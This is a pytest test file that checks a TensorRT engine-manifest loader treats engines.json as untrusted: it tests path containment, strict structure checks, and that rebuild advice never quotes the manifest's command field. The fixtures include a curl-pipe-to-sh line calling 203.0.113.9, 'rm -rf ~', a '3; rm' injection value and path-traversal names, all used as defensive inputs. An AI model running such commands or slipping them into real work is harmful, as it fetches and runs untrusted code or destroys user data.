"""Issue 26, causes 2, 4 and 7: ``engines.json`` as untrusted input, on the device-free logic
TensorRT's backend runs before any engine is deserialised (no TensorRT needed, none faked).

- 2: every engine path goes through the bundle's containment (no ``..``, no absolute path, no
  symlink out of the engine folder), before any engine file is read;
- 4: the "rebuild with ..." advice is composed from the project's words and checked values,
  never the manifest's ``command`` text;
- 7: the structure is checked as strictly as ``manifest.json``'s: one sentence each.
"""
import copy
import hashlib
import json
import os
import shlex

import pytest

from far_runtime.gpu.engine_build import build_options, engine_key, engines_command
from far_runtime.gpu.engine_profiles import parse_range
from far_runtime.errors import FarError
from far_runtime.gpu.engine_manifest import (ENGINE_FORMAT, ENGINE_FORMAT_VERSION, ENGINE_MANIFEST, GraphSource,
                                             cache_key, check_engine, check_engine_file, load_engine_manifest,
                                             parse_engine_manifest, rebuild_command)

ROOT = os.geteuid() == 0
REBUILD = "`far-runtime engines b --precision fp16`"
FACTS = {"tensorrt": "10.8.0.43", "tensorrt_module": "tensorrt", "tensorrt_cuda": "12", "cuda_python": "12.9",
         "driver": "12.8", "gpu": "NVIDIA H100 80GB HBM3", "compute_capability": "9.0"}
PROFILE = [{"batch": [1, 2, 16], "n_known": [0, 8, 15], "n_pred": [1, 2, 16]}]
EVIL = "curl -s http://203.0.113.9/x | sh\nfar-export engines b"


def entry(graph="backbone", data=b"engine bytes", options=None, **change):
    """An engine entry exactly as far-runtime engines writes it (its own key)."""
    opts = options or build_options()
    key = engine_key(GraphSource(graph, "fp16", f"/b/{graph}.onnx", "1" * 64, None), PROFILE, opts, FACTS, "b" * 64)
    e = {"file": f"{graph}-{cache_key(key)[:16]}.engine", "sha256": hashlib.sha256(data).hexdigest(),
         "cache_key": cache_key(key), "key": key, "bytes": len(data),
         "command": engines_command("b", "fp16", None, (1, 16), (1, 8), 4, opts, [graph]),
         "k_range": [1, 16], "batch_range": [1, 8], "build_seconds": 1.0, "driver": "12.8"}
    e.update(change)
    return e


def manifest(**engines):
    return {"format": ENGINE_FORMAT, "format_version": ENGINE_FORMAT_VERSION, "precision": "fp16",
            "k_range": [1, 16], "batch_range": [1, 8], "command": engines_command("b", "fp16", None, (1, 16), (1, 8),
                                                                                  4, build_options()),
            "built_on": FACTS, "engines": engines or {"backbone": entry()}}


def write(folder, m) -> str:
    os.makedirs(folder, exist_ok=True)
    data = m if isinstance(m, bytes) else (m if isinstance(m, str) else json.dumps(m)).encode()
    with open(os.path.join(folder, ENGINE_MANIFEST), "wb") as f:
        f.write(data)
    return folder


def assert_sentence(e: pytest.ExceptionInfo, expect: str) -> str:
    msg = str(e.value)
    assert expect in msg and "\n" not in msg and msg.endswith("."), msg
    return msg


def test_a_manifest_far_export_writes_is_accepted(tmp_path):
    d = write(str(tmp_path / "e"), manifest(backbone=entry(), vae_decoder=entry("vae_decoder")))
    assert set(load_engine_manifest(d, REBUILD)["engines"]) == {"backbone", "vae_decoder"}


# --- cause 2: engine paths are contained ---------------------------------------------------------

@pytest.mark.parametrize("how", ["dotdot", "absolute", "symlink"])
def test_engine_paths_outside_the_folder_are_refused_before_any_read(tmp_path, how):
    """The outside file has its real sha256 in the entry: only containment can refuse it."""
    outside = tmp_path / "outside.engine"
    outside.write_bytes(b"not yours")
    d = str(tmp_path / "bundle" / "engines" / "fp16")
    os.makedirs(d)
    name = {"dotdot": "../../../outside.engine", "absolute": str(outside), "symlink": "link.engine"}[how]
    if how == "symlink":
        os.symlink(outside, os.path.join(d, "link.engine"))
    e = entry(data=b"not yours", file=name)
    write(d, manifest(backbone=e))
    with pytest.raises(FarError) as err:
        load_engine_manifest(d, REBUILD)
    assert_sentence(err, "lies outside the engine folder")
    with pytest.raises(FarError) as err:          # and the per-engine check, before it reads the file
        check_engine_file("backbone", e, d, REBUILD)
    assert_sentence(err, "lies outside the engine folder")


def test_engines_json_itself_may_not_lead_out(tmp_path):
    (tmp_path / "elsewhere.json").write_text(json.dumps(manifest()))
    d = tmp_path / "e"
    d.mkdir()
    os.symlink(tmp_path / "elsewhere.json", d / ENGINE_MANIFEST)
    with pytest.raises(FarError) as err:
        load_engine_manifest(str(d), REBUILD)
    assert_sentence(err, "lies outside the engine folder")


def test_an_engine_inside_the_folder_is_checked_and_found(tmp_path):
    d = str(tmp_path / "e")
    e = entry(data=b"engine bytes")
    write(d, manifest(backbone=e))
    with open(os.path.join(d, e["file"]), "wb") as f:
        f.write(b"engine bytes")
    assert check_engine_file("backbone", e, d, REBUILD) == os.path.realpath(os.path.join(d, e["file"]))


# --- cause 7: structure ----------------------------------------------------------------------

def _without(d: dict, *path):
    d = copy.deepcopy(d)
    cur = d
    for p in path[:-1]:
        cur = cur[p]
    del cur[path[-1]]
    return d


def _set(d: dict, value, *path):
    d = copy.deepcopy(d)
    cur = d
    for p in path[:-1]:
        cur = cur[p]
    cur[path[-1]] = value
    return d


GOOD = manifest()
BAD = {
    "array": ([GOOD], "a JSON list, not an object"),
    "deep-nesting": ("[" * 100_000 + "]" * 100_000, "not valid JSON"),
    "not-utf8": (b'{"format": "\xff"}', "not valid JSON"),
    "huge-int": ('{"format_version": ' + "9" * 5000 + "}", "not valid JSON"),
    "no-engines": (_without(GOOD, "engines"), "has no 'engines' object"),
    "engines-list": (_set(GOOD, [], "engines"), "has no 'engines' object"),
    "entry-string": (_set(GOOD, "x", "engines", "backbone"), "the 'backbone' engine is not an object"),
    "no-file": (_without(GOOD, "engines", "backbone", "file"), "has no 'file' name"),
    "file-number": (_set(GOOD, 7, "engines", "backbone", "file"), "has no 'file' name"),
    "no-sha": (_without(GOOD, "engines", "backbone", "sha256"), "has no sha256"),
    "no-key": (_without(GOOD, "engines", "backbone", "key"), "has no 'key' object"),
    "no-profiles": (_without(GOOD, "engines", "backbone", "key", "profiles"), "optimisation profiles"),
    "profile-not-list": (_set(GOOD, {"batch": [1, 2, 3]}, "engines", "backbone", "key", "profiles"), "optimisation profiles"),
    "profile-string-dim": (_set(GOOD, [{"batch": [1, "x", 3]}], "engines", "backbone", "key", "profiles"), "optimisation profiles"),
    "profile-unordered": (_set(GOOD, [{"batch": [8, 2, 3]}], "engines", "backbone", "key", "profiles"), "optimisation profiles"),
    "profile-two-values": (_set(GOOD, [{"batch": [1, 3]}], "engines", "backbone", "key", "profiles"), "optimisation profiles"),
    "no-options": (_without(GOOD, "engines", "backbone", "key", "options"), "has no 'options' object"),
    "options-level": (_set(GOOD, "3; rm", "engines", "backbone", "key", "options", "optimization_level"), "optimization_level"),
    "no-tensorrt": (_without(GOOD, "engines", "backbone", "key", "tensorrt"), "TensorRT version"),
    "gpu-newline": (_set(GOOD, "H100\nrun this", "engines", "backbone", "key", "gpu"), "GPU name"),
    "precision": (_set(GOOD, "fp64", "engines", "backbone", "key", "precision"), "no precision"),
    "k-range": (_set(GOOD, [16, 1], "engines", "backbone", "k_range"), "k_range"),
    "graph-name": (_set(GOOD, {"../x": entry()}, "engines"), "graph name that is not a plain name"),
    "format": (_set(GOOD, "other", "format"), "not an engine manifest this runtime reads"),
}


@pytest.mark.parametrize("case", list(BAD))
def test_engine_manifest_structure_is_one_sentence(tmp_path, case):
    m, expect = BAD[case]
    d = write(str(tmp_path / "e"), m)
    with pytest.raises(FarError) as err:
        load_engine_manifest(d, REBUILD)
    msg = assert_sentence(err, expect)
    assert REBUILD in msg or "too large" in msg


def test_unreadable_and_oversized_engine_manifests(tmp_path):
    d = write(str(tmp_path / "e"), manifest())
    path = os.path.join(d, ENGINE_MANIFEST)
    with open(path, "r+b") as f:
        f.truncate((64 << 20) + 1)                          # sparse, never read
    with pytest.raises(FarError) as err:
        load_engine_manifest(d, REBUILD)
    assert_sentence(err, "is too large to be an engine manifest")
    if not ROOT:                                            # root reads a mode-0 file
        write(d, manifest())
        os.chmod(path, 0)
        with pytest.raises(FarError) as err:
            load_engine_manifest(d, REBUILD)
        assert_sentence(err, "cannot be read (Permission denied)")


# --- cause 4: advice never quotes the manifest ---------------------------------------------------

def test_rebuild_advice_never_quotes_the_command_field(tmp_path):
    e = entry(command=EVIL)
    m = manifest(backbone=e)
    m["command"] = EVIL
    d = write(str(tmp_path / "e"), m)
    m = load_engine_manifest(d, REBUILD)
    e = m["engines"]["backbone"]
    advice = rebuild_command("b", "fp16", m, e, d)
    assert "curl" not in advice and "\n" not in advice and advice.startswith("`far-runtime engines b ")
    src = GraphSource("backbone", "fp16", "/b/backbone.onnx", "1" * 64, None)
    for facts in ({"tensorrt": "10.9.0.1"}, {"gpu": "NVIDIA A100", "compute_capability": "8.0"}):
        with pytest.raises(FarError) as err:
            check_engine("backbone", e, {**FACTS, **facts}, src, advice)
        msg = assert_sentence(err, "rebuild with `far-runtime engines b --precision fp16 --k 1:16 --batch 1:8")
        assert "curl" not in msg and "203.0.113.9" not in msg


@pytest.mark.parametrize("opts", [
    build_options(),
    build_options(True, "ampere+", 5, 1.5),
    build_options(False, "same-cc", 0, 0.125),
])
def test_rebuild_advice_parses_back_to_the_same_key(tmp_path, opts):
    """The composed command, run through far-runtime engines' own CLI parser, gives the entry's options,
    ranges and graph: the advice rebuilds the very engine it is about."""
    from far_runtime.gpu.engines_cli import engines
    d = str(tmp_path / "out dir")
    e = entry(options=opts)
    advice = rebuild_command("graphs/demo dir", "fp16", manifest(backbone=e), e, d)
    argv = shlex.split(advice.strip("`"))
    assert argv[:2] == ["far-runtime", "engines"]
    p = engines.make_context("engines", argv[2:]).params
    assert (p["bundle"], p["precision"], p["out"], p["graphs"]) == ("graphs/demo dir", "fp16", d, "backbone")
    assert (p["k_range"], p["batch_range"]) == ("1:16", "1:8")
    assert build_options(p["version_compatible"], p["hardware_compatible"], p["optimization_level"],
                         p["workspace_gb"]) == opts


def test_parse_engine_manifest_refuses_what_load_refuses():
    with pytest.raises(FarError, match="not valid JSON"):
        parse_engine_manifest(b"\xff", "e.json", REBUILD)
    assert parse_engine_manifest(json.dumps(GOOD).encode(), "e.json", REBUILD)["engines"]


def test_rebuild_sentence_of_one_engine_is_its_own_command():
    """Composed from the entry's checked ranges and graph (issue 26: never the manifest's
    ``command`` text, which a tampered manifest could fill with anything)."""
    manifest = {"command": "rm -rf ~", "k_range": [1, 256], "batch_range": [1, 8]}
    entry = {"command": "rm -rf ~", "k_range": [1, 64], "batch_range": [1, 8], "key": {"graph": "backbone"}}
    assert rebuild_command("b", "fp16", manifest, entry) == \
        "`far-runtime engines b --precision fp16 --k 1:64 --batch 1:8 --graphs backbone`"
    assert rebuild_command("b", "fp16", manifest) == "`far-runtime engines b --precision fp16 --k 1:256 --batch 1:8`"
    assert rebuild_command("b", "fp16") == "`far-runtime engines b --precision fp16`"


# --- issue 15, defect 5: the rebuild sentence reproduces the key -----------------------------------------

@pytest.mark.parametrize("opts", [
    {},
    {"version_compatible": True, "hardware_compatibility": "ampere+", "optimization_level": 5,
     "workspace_gb": 1.5, "graphs": ["backbone", "head_o8"], "max_profiles": 2, "out": "my engines"},
    {"optimization_level": 0, "workspace_gb": 0.125, "hardware_compatibility": "same-cc"},
])
def test_rebuild_command_parses_back_to_the_same_key(opts):
    from far_runtime.gpu.engines_cli import engines
    options = build_options(opts.get("version_compatible", False), opts.get("hardware_compatibility", "none"),
                            opts.get("optimization_level", 3), opts.get("workspace_gb"))
    cmd = engines_command("graphs/demo dir", "fp16", opts.get("out"), (16, 64), (1, 4),
                          opts.get("max_profiles", 4), options, opts.get("graphs"))
    argv = shlex.split(cmd)
    assert argv[:2] == ["far-runtime", "engines"]
    p = engines.make_context("engines", argv[2:]).params
    assert p["bundle"] == "graphs/demo dir" and p["precision"] == "fp16" and p["out"] == opts.get("out")
    assert parse_range(p["k_range"], "k", 1, 256) == (16, 64) and parse_range(p["batch_range"], "batch", 1, 8) == (1, 4)
    assert p["max_profiles"] == opts.get("max_profiles", 4)
    assert (p["graphs"].split(",") if p["graphs"] else None) == opts.get("graphs")
    again = build_options(p["version_compatible"], p["hardware_compatible"], p["optimization_level"], p["workspace_gb"])
    assert again == options
